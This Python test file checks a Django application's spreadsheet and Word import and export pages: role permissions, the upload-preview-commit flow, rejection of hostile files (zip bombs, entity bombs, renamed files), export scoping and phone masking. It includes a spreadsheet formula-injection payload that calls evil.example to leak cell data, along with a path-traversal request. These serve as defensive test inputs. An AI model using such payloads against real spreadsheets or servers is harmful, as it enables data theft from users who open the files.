"""The import pages and the downloads: who may use them, the upload → preview → commit
flow, the hostile files, and what exports contain for each role."""

import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from beian.core.models import AuditEvent
from beian.core.tests import sheet_fixtures as F
from beian.registry.models import ChatGroup, MediaAccount
from beian.testing import make_account, make_group
from beian.transfer import stash

from .conftest import GROUP_HEADER, xlsx

pytestmark = pytest.mark.django_db

ROLES = ["school_admin", "cs_unit_admin", "lit_unit_admin", "league_approver", "lit_operator",
         "auditor", "leader", "nobody"]  # fmt: skip
IMPORTERS = {"school_admin", "cs_unit_admin", "lit_unit_admin"}
GOOD_ROWS = [[1, "计算机学院", "微信群", "计院新群", "工作", 30, "无", "", "2022年9月", "", ""]]
BAD_ROWS = [
    [1, "计算机学院", "微信群", "计院新群", "工作", 30, "无", "", "2022年9月", "", ""],
    [2, "计算机学院", "微信群", "计院坏群", "工作", "很多", "无", "", "", "", ""],
]


def upload(client, data, name="附件3.xlsx", kind="groups", unit=""):
    return client.post(
        reverse("transfer:import_start"),
        {"kind": kind, "unit": unit, "file": SimpleUploadedFile(name, data)},
    )


def login(client, user):
    client.force_login(user)
    return client


# --- permissions ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "url_name", ["transfer:import_start", "transfer:export_accounts", "transfer:export_groups",
                 "transfer:export_units", "transfer:export_people", "transfer:account_forms_zip"]
)  # fmt: skip
def test_anonymous_users_go_to_the_login_page(client, cast, url_name):
    response = client.get(reverse(url_name))
    assert response.status_code == 302 and response.url.startswith(reverse("login"))


def test_permission_matrix(client, cast):
    own = reverse("transfer:account_form_docx", args=[cast.cs_account.pk])
    got = {}
    for who in ROLES:
        login(client, getattr(cast, who))
        got[who] = (
            client.get(reverse("transfer:import_start")).status_code,
            client.get(reverse("transfer:template", args=["groups-pdsu"])).status_code,
            client.get(reverse("transfer:export_accounts")).status_code,
            client.get(reverse("transfer:export_groups")).status_code,
            client.get(reverse("transfer:export_units")).status_code,
            client.get(reverse("transfer:export_people")).status_code,
            client.get(own).status_code,
            client.get(reverse("transfer:account_forms_zip")).status_code,
        )
    assert got == {
        #                 import tmpl  acc  grp  unit ppl  docx zip
        "school_admin": (200, 200, 200, 200, 200, 200, 200, 200),
        "cs_unit_admin": (200, 200, 200, 200, 200, 200, 200, 200),
        "lit_unit_admin": (200, 200, 200, 200, 200, 200, 404, 200),
        "league_approver": (403, 403, 200, 200, 200, 200, 404, 200),
        "lit_operator": (403, 403, 200, 200, 200, 200, 404, 200),
        "auditor": (403, 403, 200, 200, 200, 200, 200, 200),
        "leader": (403, 403, 200, 200, 200, 200, 200, 200),
        "nobody": (403, 403, 200, 200, 200, 200, 404, 200),
    }
    anonymous = client.__class__()
    assert anonymous.get(own).status_code == 302


def test_an_upload_belongs_to_its_session_and_user(client, cast):
    login(client, cast.cs_unit_admin)
    response = upload(client, xlsx(GROUP_HEADER, GOOD_ROWS))
    token = response.url.rstrip("/").split("/")[-1]
    preview_url = reverse("transfer:import_preview", args=[token])
    assert client.get(preview_url).status_code == 200
    other = client.__class__()
    login(other, cast.school_admin)
    assert other.get(preview_url).status_code == 404
    assert other.post(reverse("transfer:import_commit", args=[token])).status_code == 404
    assert other.get(reverse("transfer:import_errors", args=[token])).status_code == 404
    assert other.post(reverse("transfer:import_cancel", args=[token])).status_code == 404
    assert client.get(reverse("transfer:import_preview", args=["x" * 22])).status_code == 404
    assert client.get("/transfer/import/..%2F..%2Fetc/").status_code == 404


def test_a_result_page_is_only_for_its_importer(client, cast):
    login(client, cast.cs_unit_admin)
    token = upload(client, xlsx(GROUP_HEADER, GOOD_ROWS)).url.rstrip("/").split("/")[-1]
    done = client.post(reverse("transfer:import_commit", args=[token]))
    assert client.get(done.url).status_code == 200
    login(client, cast.school_admin)
    assert client.get(done.url).status_code == 404


# --- the flow ---------------------------------------------------------------------------


def test_upload_preview_fix_and_commit(client, cast):
    login(client, cast.cs_unit_admin)
    response = upload(client, xlsx(GROUP_HEADER, BAD_ROWS))
    assert response.status_code == 302
    page = client.get(response.url)
    content = page.content.decode()
    assert "“很多”不是有效的数字" in content and "F3" in content and "跳过此行" in content
    token = response.url.rstrip("/").split("/")[-1]
    # the error report: the original row and what is wrong with it
    report = client.get(reverse("transfer:import_errors", args=[token]))
    assert report["Content-Disposition"].startswith("attachment")
    sheet = openpyxl.load_workbook(io.BytesIO(report.content)).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[1][-2:] == ("原行号", "错误说明")
    assert values[2][3] == "计院坏群" and values[2][-2] == 3 and "很多" in values[2][-1]
    # committing with the error row refuses and writes nothing
    response = client.post(reverse("transfer:import_commit", args=[token]))
    assert response.status_code == 302 and not ChatGroup.objects.filter(name="计院新群").exists()
    # a fixed file, uploaded again, commits
    response = upload(client, xlsx(GROUP_HEADER, [BAD_ROWS[0], [2, *BAD_ROWS[1][1:5], 40,
                                                                 *BAD_ROWS[1][6:]]]))  # fmt: skip
    token = response.url.rstrip("/").split("/")[-1]
    done = client.post(reverse("transfer:import_commit", args=[token]), follow=True)
    assert done.status_code == 200 and "已导入" in done.content.decode()
    assert ChatGroup.objects.get(name="计院坏群").member_count == 40
    assert not (stash.root() / token).exists()  # the uploaded file is removed


def test_dropping_error_rows_in_the_ui(client, cast):
    login(client, cast.cs_unit_admin)
    token = upload(client, xlsx(GROUP_HEADER, BAD_ROWS)).url.rstrip("/").split("/")[-1]
    response = client.post(reverse("transfer:import_commit", args=[token]), {"drop": ["3", "2"]})
    assert response.status_code == 302 and "done" in response.url  # row 2 is not an error
    assert ChatGroup.objects.filter(name="计院新群").exists()
    assert not ChatGroup.objects.filter(name="计院坏群").exists()


def test_cancel_removes_the_upload(client, cast):
    login(client, cast.school_admin)
    token = upload(client, xlsx(GROUP_HEADER, GOOD_ROWS)).url.rstrip("/").split("/")[-1]
    assert (stash.root() / token).exists()
    client.post(reverse("transfer:import_cancel", args=[token]))
    assert not (stash.root() / token).exists()
    assert client.get(reverse("transfer:import_preview", args=[token])).status_code == 404


def test_blank_templates_are_the_layouts(client, cast):
    login(client, cast.school_admin)
    for key in ("accounts-pdsu", "accounts-hnwu", "groups-pdsu", "units-units", "people-people"):
        response = client.get(reverse("transfer:template", args=[key]))
        assert response.status_code == 200
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        assert (
            sheet["A1"].value.startswith("华北水利水电大学")
            and sheet["A3"].value == "序号"
            and sheet["A4"].value == 1
        )
    assert client.get(reverse("transfer:template", args=["nope"])).status_code == 404


# --- hostile files ---------------------------------------------------------------------

HOSTILE = {
    "empty.xlsx": b"",
    "renamed.xlsx": F.FAKE_PDF,
    "bomb.xlsx": F.zip_bomb(),
    "entities.xlsx": F.entity_bomb_xlsx(),
    "entries.xlsx": F.many_entries_zip(10_000),
    "far.xlsx": F.far_cell_xlsx(),
    "word.docx": F.xlsx_with_part("word/document.xml", b"<w/>"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_files_get_a_message_and_write_nothing(client, cast, name):
    login(client, cast.school_admin)
    before = (ChatGroup.objects.count(), AuditEvent.objects.filter(event="import").count())
    response = upload(client, HOSTILE[name], name)
    assert response.status_code == 200  # the form again, with the reason
    form = response.context["form"]
    assert form.errors["file"], name
    assert (ChatGroup.objects.count(), AuditEvent.objects.filter(event="import").count()) == before


def test_an_oversized_file_is_refused_while_reading(client, cast, settings):
    settings.BEIAN_UPLOAD_MAX_BYTES = 1024
    login(client, cast.school_admin)
    response = upload(client, xlsx(GROUP_HEADER, GOOD_ROWS) + b"\0" * 2048)
    assert response.status_code == 413
    assert "文件过大" in response.context["form"].errors["file"][0]


def test_an_oversized_request_is_refused_before_reading(client, cast, settings):
    settings.BEIAN_UPLOAD_MAX_BYTES = 1024
    login(client, cast.school_admin)
    response = upload(client, b"x" * 200_000, "big.csv")
    assert response.status_code == 413 and "文件过大" in response.content.decode()


def test_formula_payloads_in_every_text_column_are_data(client, cast):
    rows = [
        [n, "计算机学院", "QQ群", payload, payload, 10, "无", "", "", payload[:60], "",
         f"9{n:05d}"]
        for n, payload in enumerate(F.FORMULA_PAYLOADS, start=1)
    ]  # fmt: skip
    login(client, cast.school_admin)
    response = upload(client, xlsx([*GROUP_HEADER, "群号"], rows))
    token = response.url.rstrip("/").split("/")[-1]
    assert client.get(response.url).status_code == 200
    report = client.get(reverse("transfer:import_errors", args=[token]))
    sheet = openpyxl.load_workbook(io.BytesIO(report.content)).active
    for cells in sheet.iter_rows():
        for cell in cells:
            assert cell.data_type != "f"
    client.post(reverse("transfer:import_commit", args=[token]), {"drop_all_errors": "1"})
    names = set(
        ChatGroup.objects.filter(group_number__startswith="9").values_list("name", flat=True)
    )
    assert "=1+1" in names and '=HYPERLINK("http://evil.example/?"&A1,"点击")' in names


# --- exports -----------------------------------------------------------------------------


def exported_rows(response) -> list[tuple]:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return list(sheet.iter_rows(min_row=4, values_only=True))


def test_a_unit_admins_export_holds_their_subtree_only(client, cast):
    make_account("系号", unit=cast.se, platform_code="kuaishou")
    login(client, cast.cs_unit_admin)
    rows = exported_rows(client.get(reverse("transfer:export_accounts")))
    units = {r[1] for r in rows if isinstance(r[0], int | float)}
    assert units == {"计算机学院", "软件工程系"}
    rows = exported_rows(client.get(reverse("transfer:export_groups")))
    assert {r[1] for r in rows if isinstance(r[0], int | float)} == {"计算机学院"}
    csv_text = client.get(reverse("transfer:export_people") + "?format=csv").content.decode(
        "utf-8-sig"
    )
    assert "李老师" not in csv_text and "张书记" in csv_text


def test_export_filters_mean_what_they_mean_on_the_list(client, cast):
    make_group("大群", unit=cast.cs, member_count=500)
    login(client, cast.school_admin)
    response = client.get(reverse("transfer:export_groups"), {"min_members": 100})
    names = [r[3] for r in exported_rows(response) if isinstance(r[0], int | float)]
    assert names == ["大群"]
    response = client.get(reverse("transfer:export_accounts"), {"unit": cast.lit.pk})
    assert {r[1] for r in exported_rows(response) if isinstance(r[0], int | float)} == {"文学院"}
    assert client.get(reverse("transfer:export_accounts"), {"unit": "x"}).status_code == 400
    assert client.get(reverse("transfer:export_accounts"), {"format": "pdf"}).status_code == 400
    login(client, cast.cs_unit_admin)  # a unit outside the scope is not a choice
    assert client.get(reverse("transfer:export_accounts"), {"unit": cast.lit.pk}).status_code == 400


@pytest.mark.parametrize(("who", "shown"), [("school_admin", "13812341234"),
                                            ("cs_unit_admin", "13812341234"),
                                            ("auditor", "138****1234"),
                                            ("leader", "138****1234")])  # fmt: skip
def test_personal_data_in_exports_follows_the_role(client, cast, who, shown):
    login(client, getattr(cast, who))
    rows = exported_rows(client.get(reverse("transfer:export_accounts")))
    teacher_phone = next(r[11] for r in rows if r[4] == "计算机学院团委")
    assert teacher_phone == shown


def test_every_export_is_audited(client, cast):
    login(client, cast.auditor)
    response = client.get(reverse("transfer:export_groups"), {"format": "csv", "status": "active"})
    event = AuditEvent.objects.filter(event="export").latest("pk")
    assert event.actor == cast.auditor
    assert event.detail["kind"] == "groups" and event.detail["format"] == "csv"
    assert event.detail["filters"] == {"format": "csv", "status": "active"}
    assert event.detail["rows"] == 2
    import hashlib

    assert event.detail["sha256"] == hashlib.sha256(response.content).hexdigest()


def test_the_hnwu_layout_and_csv(client, cast):
    login(client, cast.school_admin)
    response = client.get(reverse("transfer:export_accounts"), {"layout": "hnwu"})
    rows = exported_rows(response)
    assert "计算机学院团委（微信公众号，ncwu_cs）" in {r[2] for r in rows}
    response = client.get(reverse("transfer:export_accounts"), {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith("\ufeff".encode())


# --- Word ---------------------------------------------------------------------------------


def test_the_filing_form_of_an_account(client, cast):
    from docx import Document

    login(client, cast.auditor)
    for layout in ("hnwu", "pdsu"):
        response = client.get(
            reverse("transfer:account_form_docx", args=[cast.cs_account.pk]), {"layout": layout}
        )
        assert response.status_code == 200
        document = Document(io.BytesIO(response.content))
        text = "\n".join(
            cell.text for table in document.tables for r in table.rows for cell in r.cells
        ) + "\n".join(p.text for p in document.paragraphs)
        assert "计算机学院团委" in text and "张书记" in text
        assert "138****1234" in text and "13812341234" not in text  # masked for the auditor
    assert AuditEvent.objects.filter(event="export", detail__kind="account_form").count() == 2


def test_a_zip_of_forms_for_a_filtered_list(client, cast):
    login(client, cast.cs_unit_admin)
    response = client.get(reverse("transfer:account_forms_zip"))
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert len(archive.namelist()) == MediaAccount.objects.visible_to(cast.cs_unit_admin).count()
    assert all(name.endswith(".docx") for name in archive.namelist())


def test_the_upload_still_needs_the_csrf_token(cast):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(cast.school_admin)
    response = upload(client, xlsx(GROUP_HEADER, GOOD_ROWS))
    assert response.status_code == 403


def test_the_pages_have_no_inline_scripts(client, cast):
    login(client, cast.cs_unit_admin)
    response = upload(client, xlsx(GROUP_HEADER, BAD_ROWS))
    token = response.url.rstrip("/").split("/")[-1]
    pages = [reverse("transfer:import_start"), response.url, f"{response.url}?show=all"]
    done = client.post(reverse("transfer:import_commit", args=[token]), {"drop_all_errors": "1"})
    pages.append(done.url)
    for url in pages:
        html = client.get(url).content.decode()
        assert "<script" not in html.split("</head>", 1)[1], url
